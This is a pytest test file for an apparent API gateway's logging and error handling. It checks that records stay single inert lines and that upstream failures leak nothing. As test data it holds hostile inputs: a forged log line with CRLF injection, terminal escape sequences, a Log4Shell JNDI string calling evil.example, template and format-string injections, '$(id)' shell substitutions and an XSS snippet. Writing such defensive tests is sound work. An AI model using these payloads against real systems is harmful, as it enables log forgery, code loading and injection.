"""Section P of the hostile cases: records and errors (B-324 … B-326, B-335)."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from tests.support.exchanges import ManualClock, make_exchange, make_operation, make_user
from tests.support.facts import CALLER, NOW, SCENE, Facts

from vallum.cli.log import log
from vallum.core.fields import Fields
from vallum.core.problem_json import render_problem
from vallum.core.problems import PROBLEMS, Denied, Violation
from vallum.engine.filter import Answer
from vallum.filters.errors import SafeErrors
from vallum.telemetry.exchange_record import RecordBuilder
from vallum.telemetry.read import last, parse_line
from vallum.telemetry.records import RecordWriter

FORGED = '\r\n{"time":"2026-01-01T00:00:00.000Z","decision":"allow","principal":"admin"}\n'
HOSTILE = [
    FORGED,
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "\x9b31mred \x90\x85",
    "a\x00b",
    "a\u2028b\u2029c",
    "user\u202etxt.exe\u2066",
    '"},{"decision":"allow"}',
    "\\u0022\\",
    "\ud800 lone \udfff",
    "\x7f\x7f",
    "[red]markup[/red] [link=https://evil.example]x[/link]",
]


def record_of(text: str) -> bytes:
    """A record with `text` wherever a client has a say."""
    facts = Facts(method=text, path=f"/{text}", query_names=(text, "x"), notes=(text,))
    caller = (CALLER[0], text, text, text.encode("utf-8", "surrogatepass"))
    return RecordBuilder("w1").build(facts, NOW, 1, 1, SCENE, caller)


def assert_one_inert_line(line: bytes) -> dict[str, object]:
    assert line.endswith(b"\n")
    assert line.isascii()
    assert all(0x20 <= byte < 0x7F for byte in line[:-1])
    record = parse_line(line)
    assert record is not None
    assert json.loads(line) == record
    return record


@pytest.mark.parametrize("text", HOSTILE)
def test_b324_a_record_is_one_line_whatever_it_holds(text: str) -> None:
    record = assert_one_inert_line(record_of(text))
    readable = text.encode("utf-8", "backslashreplace").decode("utf-8")
    name = text[:64].encode("utf-8", "backslashreplace").decode("utf-8")
    assert record["path"] == f"/{readable}"
    assert record["method"] == readable
    assert record["query"] == [name, "x"]
    assert record["decision"] == "allow"
    assert record["principal"] == readable


@given(st.text(st.characters(codec=None), max_size=80))
def test_b324_every_text_reads_back(text: str) -> None:
    record = assert_one_inert_line(record_of(text))
    assert record["path"] == "/" + text.encode("utf-8", "backslashreplace").decode("utf-8")


@given(st.binary(max_size=300))
def test_b324_every_user_agent_is_one_field(agent: bytes) -> None:
    line = RecordBuilder("w1").build(Facts(), NOW, 1, 1, SCENE, (*CALLER[:3], agent))
    record = assert_one_inert_line(line)
    assert record["user_agent"] == agent[:256].decode("utf-8", "backslashreplace")


def test_b324_a_field_of_a_megabyte_is_cut() -> None:
    assert len(record_of("x" * 1_000_000)) < 8192


@pytest.fixture
def hostile_records(tmp_path: Path) -> Path:
    builder = RecordBuilder("w1")
    writer = RecordWriter(tmp_path, "w1", clock=ManualClock(NOW), event=builder.event)
    for text in HOSTILE:
        facts = Facts(method=text, path=f"/{text}", reason=text)
        caller = (CALLER[0], f"3:iss:{text}", text, None)
        writer.append(builder.build(facts, NOW, 1, 1, SCENE, caller))
    writer.close()
    return tmp_path


def test_b324_no_record_is_forged(hostile_records: Path) -> None:
    records = last(hostile_records, 1000, lambda record: True)
    assert [record["seq"] for record in records] == list(range(1, len(HOSTILE) + 1))
    assert all(record["time"].startswith("2025-10-09") for record in records)


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_b324_the_terminal_gets_nothing_to_obey(hostile_records: Path, options: list[str]) -> None:
    result = CliRunner().invoke(log, ["--path", str(hostile_records), *options])
    assert result.exit_code == 0, result.output
    assert result.output.count("\n") >= len(HOSTILE)
    assert all(character.isprintable() or character == "\n" for character in result.output)
    if not options:
        assert "[red]markup[/red]" in result.output.replace("\n", "").replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://evil.example/a}",
        "%s%n%x%d",
        "{0}",
        "{user.__class__.__init__.__globals__}",
        "{{7*7}}",
        "#{7*7}",
        "$(id)",
        "`id`",
    ],
)
def test_b325_text_is_never_a_format(text: str) -> None:
    record = assert_one_inert_line(record_of(text))
    assert record["path"] == f"/{text}"
    assert record["user_agent"] == text


CANARY = "c4n4ry-5ecret"


def test_b326_secrets_have_no_way_into_a_record(tmp_path: Path) -> None:
    """A record takes scalars from a list; a whole exchange shows what could leak into them."""
    exchange = make_exchange(
        (b"authorization", f"Bearer {CANARY}".encode()),
        (b"cookie", f"session={CANARY}".encode()),
        (b"x-api-key", CANARY.encode()),
        (b"dpop", CANARY.encode()),
        (b"baggage", f"token={CANARY}".encode()),
        principal=replace(make_user(), claims={"password": CANARY}),
    )
    exchange.body = json.dumps({"password": CANARY}).encode()
    principal = exchange.principal
    assert principal is not None
    caller = (exchange.request.client.address, principal.id, principal.credential, b"agent")
    line = RecordBuilder("w1").build(Facts(), NOW, 1, 1, SCENE, caller)
    assert CANARY.encode() not in line
    assert CANARY not in repr(exchange.request)
    assert CANARY not in repr(principal)
    assert CANARY not in repr(Fields(exchange.request.fields.items))


def test_b326_records_name_parameters_and_never_their_values() -> None:
    target = make_exchange().request.target._replace(query=(("access_token", CANARY),))
    names = tuple(name for name, _ in target.query)
    line = RecordBuilder("w1").build(Facts(query_names=names), NOW, 1, 1, SCENE, CALLER)
    assert json.loads(line)["query"] == ["access_token"]
    assert CANARY.encode() not in line


_LEAKS = re.compile(
    rb"Traceback|File \"|/usr/|/home/|/opt/|\.py\b|line [0-9]+|Exception|Error:|SELECT |sqlite"
    rb"|psycopg|10\.[0-9]+\.|127\.0\.0|localhost|internal\.|<html|<script|nginx|uvicorn|Python/",
    re.IGNORECASE,
)

UPSTREAM_FAILURES = [
    b'Traceback (most recent call last):\n  File "/usr/lib/app.py", line 3, in <module>\n',
    b'{"error": "SELECT * FROM users: sqlite3.OperationalError at db.internal.example"}',
    b"<html><script>alert(1)</script>nginx/1.2 upstream 10.0.0.7:8000</html>",
]


@pytest.mark.parametrize("status", [500, 501, 502, 503, 504, 505, 511, 599])
@pytest.mark.parametrize("body", UPSTREAM_FAILURES)
def test_b335_what_an_upstream_says_of_its_failure_stays_inside(status: int, body: bytes) -> None:
    assert _LEAKS.search(body), "the check can see a leak"
    attachment = SafeErrors().attach(make_operation(), None)
    assert attachment.screen is not None
    answer = Answer(status, [(b"content-type", b"text/html"), (b"x-error", body[:20])])
    attachment.screen(make_exchange(), answer)
    assert answer.replace_with is not None
    problem = PROBLEMS[answer.replace_with]
    shown = render_problem(problem, status=problem.status, request_id="ab" * 16)
    assert _LEAKS.search(shown) is None
    assert json.loads(shown)["instance"] == f"urn:vallum:request:{'ab' * 16}"


@pytest.mark.parametrize("slug", sorted(PROBLEMS))
def test_b335_no_problem_says_anything_of_the_inside(slug: str) -> None:
    denied = Denied(
        slug,
        "jwt.bad-signature",
        violations=[Violation("query", "/page", "type", "must be an integer")],
    )
    shown = render_problem(
        denied.problem, status=denied.status, request_id="ab", violations=denied.violations
    )
    assert _LEAKS.search(shown) is None
    assert b"jwt" not in shown
    assert set(json.loads(shown)) == {"type", "title", "status", "detail", "instance", "errors"}
